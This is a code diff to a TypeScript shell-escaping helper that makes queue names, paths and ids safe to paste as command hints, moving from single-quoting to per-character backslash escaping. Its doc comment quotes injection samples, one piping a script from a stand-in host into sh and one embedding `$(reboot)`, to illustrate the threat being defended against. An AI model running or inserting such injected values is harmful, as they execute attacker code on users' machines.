@@ -1,6 +1,6 @@
 /**
- * A value in a command line printed for a user to copy and run. Task queues, paths, backfill
- * ids read from the server and namespaces may hold anything (a spec author, a caller of
+ * A value in a command line printed for a user to copy and run. Task queues, paths and backfill
+ * ids read from the server may hold anything (a spec author, a caller of
  * Temporal's own CLI chooses them): `q; curl evil.sh | sh` or `$(reboot)` written as they are
  * would make the pasted hint run them.
  */
@@ -13,7 +13,7 @@ const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;
  * paragraph separators, format characters such as bidi overrides): raw, a line break in a queue's
  * name would print a line of the attacker's outside the quotes.
  */
-const INVISIBLE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]/gu;
+const INVISIBLE = /^[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]$/u;
 
 /** `c`'s UTF-8 bytes as ANSI-C quoting's octal escapes (`\342\200\256`). */
 function octalBytes(c: string): string {
@@ -21,14 +21,24 @@ function octalBytes(c: string): string {
   return encodeURIComponent(c).replace(/%([0-9A-F]{2})/g, (_, hex: string) => `\\${parseInt(hex, 16).toString(8).padStart(3, '0')}`);
 }
 
+/** One character of a value as a shell word writes it: as it is, a control or format character as ANSI-C quoting's octal bytes, any other with a backslash. */
+function wordChar(c: string): string {
+  if (PLAIN.test(c)) return c;
+  return INVISIBLE.test(c) ? `$'${octalBytes(c)}'` : `\\${c}`;
+}
+
 /**
- * `value` as one shell word: as it is when made only of PLAIN characters, else single-quoted,
- * each `'` written `'\''`. A control or format character is written `'$'\ooo''` (ANSI-C quoting,
- * POSIX.1-2024; bash, zsh, ksh, busybox sh), so the text holds none of them: a shell without
- * it (an older dash) reads `$\ooo` literally, still inside the one word, running nothing.
+ * `value` as one shell word: as it is when made only of PLAIN characters, else each other
+ * character after a backslash, not single-quoted: hints print a command between single quotes
+ * (`start one with 'backfill worker --task-queue …'`), and a quoted word inside those would be
+ * outside quotes for whoever copies the command with its marks (`$(…)` then runs). Backslashed,
+ * the copy with its marks is one word the shell runs nothing of, and the command alone gives the
+ * value back. A control or format character is written `$'\ooo'` (ANSI-C quoting, POSIX.1-2024;
+ * bash, zsh, ksh, busybox sh), so the text holds none of them: a shell without it (an older dash)
+ * reads `$\ooo` literally, still inside the one word, running nothing. The empty value is `''`.
  */
 export function shellWord(value: string): string {
   if (PLAIN.test(value)) return value;
-  const quoted = value.replace(/'/g, "'\\''").replace(INVISIBLE, (c) => `'$'${octalBytes(c)}''`);
-  return `'${quoted}'`;
+  if (value === '') return "''";
+  return [...value].map(wordChar).join('');
 }
